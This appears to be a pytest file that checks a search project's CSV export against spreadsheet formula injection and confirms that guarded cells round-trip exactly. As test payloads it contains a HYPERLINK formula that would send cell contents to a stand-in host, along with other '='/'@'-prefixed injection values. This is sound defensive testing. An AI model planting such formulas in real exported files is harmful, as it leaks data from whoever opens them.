"""Tables that leave: no cell is a formula, every one comes back, and there is no other way out."""

import ast
import csv
import io
import itertools
import random
import re
from pathlib import Path

import pytest

from search.judging.import_export import as_csv, import_judgments
from search.judging.store import JudgmentStore, Question
from search.judging.votes import ColumnPair, grade, vote
from search.projects.project import project_to_be
from search.text.spreadsheet_cells import csv_text, guarded, unguarded

REPOSITORY = Path(__file__).resolve().parents[3]
# Tables for programs, in formats of which every byte is fixed: ids there must be those of the corpus.
FOR_PROGRAMS = {"search/evaluation/query_sets/query_set.py": "query-id\tcorpus-id\tscore\n"}
SIGNS = "=+-@＝＋－＠"


def cells_of(text, delimiter):
    """The cells that a spreadsheet sees where this is what separates them."""
    return [
        c for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for c in row
    ]


@pytest.mark.parametrize("sign", SIGNS)
def test_no_cell_is_a_formula_in_any_country(sign):
    formula = f'{sign}HYPERLINK("http://x.example/?"&A1,"more")'
    told = [
        formula,
        f" {formula}",
        f"\t{formula}",
        f"rent;{formula}",
        f"rent\r\n{formula}",
        f"'{formula}",
    ]
    text = csv_text(["what", formula], [(cell, 1) for cell in told])
    for delimiter in ",;\t":
        for cell in cells_of(text, delimiter):
            assert not re.match(rf"\s*[{re.escape(SIGNS)}]", cell), (delimiter, cell)
    back = list(csv.reader(io.StringIO(text, newline="")))
    assert [unguarded(row[0]) for row in back[1:]] == told


def test_every_text_comes_back():
    for size in range(1, 6):
        for signs in itertools.product("'=; a", repeat=size):
            text = "".join(signs)
            assert unguarded(str(guarded(text))) == text
    chance = random.Random(7)
    for _ in range(500):
        text = "".join(chance.choices("'=-+@;\t\n ab1.", k=12))
        assert unguarded(str(guarded(text))) == text


def test_numbers_stay_numbers():
    for cell in ("-3.5", "+4", "1,000", 7, -0.25, None, True):
        assert guarded(cell) is cell


def test_judgments_with_formulas_come_back_as_they_were(workspace):
    one, two = (project_to_be(name).create() for name in ("one", "two"))
    store = JudgmentStore.of(one)
    judge = store.join("=ann+@x")
    store.ask([Question("=q1", "=1+1;@evil", "typed"), Question("'-q2", "+49 30 1234", "typed")])
    store.add(
        [
            grade(judge, "=q1", "@d1", 3, token="a"),
            grade(judge, "'-q2", "'=d2", 1, token="b"),
            vote(judge, "=q1", ColumnPair.of("generic", "-mine"), "first", token="c"),
        ]
    )
    written = as_csv(one)
    assert not [c for c in cells_of(written, ",") if c[:1] and c[0] in SIGNS]
    path = workspace / "judgments.csv"
    path.write_text(written, encoding="utf-8")
    assert import_judgments(two, path).judgments == 3
    there = JudgmentStore.of(two)
    facts = [
        {(j.kind, j.judge, j.question, j.target, j.value) for j in known.standing()}
        for known in (store, there)
    ]
    assert facts[0] == facts[1]
    assert {q.id: q.text for q in there.questions()} == {q.id: q.text for q in store.questions()}


def test_there_is_no_other_way_to_write_a_table():
    """Whoever writes one goes through `csv_text`; tables for programs are listed above."""
    ways = {
        "writer",
        "DictWriter",
        "to_csv",
        "to_excel",
        "to_clipboard",
        "Workbook",
        "ExcelWriter",
        "save_workbook",
    }
    found = {}
    for top in ("search", "training", "indexes", "ui", "terminal", "app.py", "cli.py"):
        path = REPOSITORY / top
        for file in [path] if path.is_file() else sorted(path.rglob("*.py")):
            name = file.relative_to(REPOSITORY).as_posix()
            for node in ast.walk(ast.parse(file.read_text(encoding="utf-8"))):
                attribute = isinstance(node, ast.Attribute) and node.attr in ways
                table = isinstance(node, ast.Constant) and isinstance(node.value, str)
                if attribute:
                    found.setdefault(name, []).append(ast.unparse(node))
                elif (
                    table
                    and "\t" in node.value
                    and node.value.endswith("\n")
                    and len(node.value) > 2
                ):
                    found.setdefault(name, []).append(node.value)
    assert found.pop("search/text/spreadsheet_cells.py") == ["csv.writer"]
    assert {n: w for n, w in found.items() if w != [FOR_PROGRAMS.get(n)]} == {}
